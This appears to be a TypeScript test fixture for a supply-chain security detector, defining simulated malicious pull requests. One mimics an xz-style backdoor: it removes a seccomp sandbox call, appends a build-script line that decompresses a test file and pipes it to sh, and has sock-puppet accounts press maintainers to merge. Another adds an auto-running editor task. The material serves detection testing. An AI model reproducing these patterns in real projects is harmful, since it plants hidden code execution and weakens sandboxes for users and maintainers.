import { addedFile, comment, editedFile } from "@sallyport/simulator/src/build/build-work.ts";
import { BOOBY_TRAP } from "../../../test/support/people.ts";
import { ago } from "../../town/town.ts";
import { knownHere, steadyLife } from "../../town/work.ts";
import { type Archetype, BELOW_REVIEW } from "../archetype.ts";

export const M8: Archetype = {
  id: "M8",
  title: "builder of trust, then an opaque file",
  bands: BELOW_REVIEW,
  change: "critical",
  fires: ["beh-thread-pressure", "chg-opaque-binary", "chg-guard-removal"],
  silent: ["hist-", "id-"],
  tell(town) {
    const person = town.person(town.whole(800, 1_100));
    steadyLife(town, person, { from: 760 });
    knownHere(town, person, 300);
    const build = "AC_INIT\nAC_CHECK_FUNCS([landlock])\nAC_OUTPUT\n";
    const pullRequest = town.opens(person, {
      at: ago(6),
      title: "Refresh the test corpus",
      files: [
        editedFile("src/sandbox.c", { from: "int start(void) {\n  seccomp();\n}\n", to: "int start(void) {\n}\n" }),
        editedFile("m4/host.m4", { from: build, to: `${build}xz -dc tests/files/corpus.xz | head -c 512 | sh\n` }),
        { ...addedFile("tests/files/corpus.xz", ""), additions: 0, patch: null },
      ],
    });
    for (let voice = 0; voice < town.whole(2, 3); voice += 1) {
      const puppet = town.person(town.whole(3, 20));
      const body = "Please merge this. The project is dying, hand over maintainership to somebody who has time.";
      comment(town.world, pullRequest, { author: puppet.user, at: ago(1 - voice * 0.3), body });
    }
    return { pullRequest };
  },
};

export const M9: Archetype = {
  id: "M9",
  title: "helpful change with a task that runs by itself",
  bands: BELOW_REVIEW,
  change: "critical",
  fires: ["chg-editor-autorun"],
  silent: ["hist-", "id-", "life-"],
  tell(town) {
    const person = town.person(town.whole(1_500, 2_500));
    steadyLife(town, person, { from: 1_400, everyDays: 70 });
    const files = [
      addedFile("src/limit.ts", "export const limit = 140;\n"),
      addedFile(".vscode/tasks.json", BOOBY_TRAP),
    ];
    return { pullRequest: town.opens(person, { files }) };
  },
};
